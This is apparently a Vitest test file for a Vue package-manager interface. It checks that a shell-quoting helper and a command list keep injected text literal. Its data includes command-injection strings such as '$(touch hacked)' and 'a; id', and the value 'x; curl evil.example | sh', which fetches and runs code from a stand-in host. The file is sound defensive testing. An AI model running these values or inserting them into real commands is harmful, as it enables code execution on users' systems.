import { execFileSync } from 'node:child_process'
import { mount } from '@vue/test-utils'
import { expect, test } from 'vitest'
import CommandList from '../../../renderer/features/package/CommandList.vue'
import { shellWord } from '../../../renderer/format/shell-word.ts'
import { summaries } from '../kit/fake-catalog.ts'
import { detailsOf } from '../kit/fake-answers.ts'

const hostile = [
  "it's",
  '$(touch hacked)',
  '`id`',
  'a; id',
  'a\nid',
  'jq=~root',
  '1.0~rc1',
  "'; id; '",
  '~',
  '*',
  '\\',
  '"',
  '-x',
]

test('a shell reads nothing in a word that is copied from the window', () => {
  const typed = hostile.map(shellWord).join(' ')

  const read = execFileSync('sh', ['-c', `printf '%s\\0' ${typed}`], { encoding: 'utf8' })

  expect(read.split('\0').slice(0, -1)).toEqual(hostile)
})

test('what a package calls its commands is no command of the line that starts them', () => {
  const details = { ...detailsOf(summaries, 'quillbay'), commands: ['vim', 'x; curl evil.example | sh'] }

  const lines = mount(CommandList, { props: { details } }).findAll('code')

  expect(lines.map((line) => line.text())).toEqual([
    'multios-pm run quillbay --program vim',
    "multios-pm run quillbay --program 'x; curl evil.example | sh'",
  ])
})
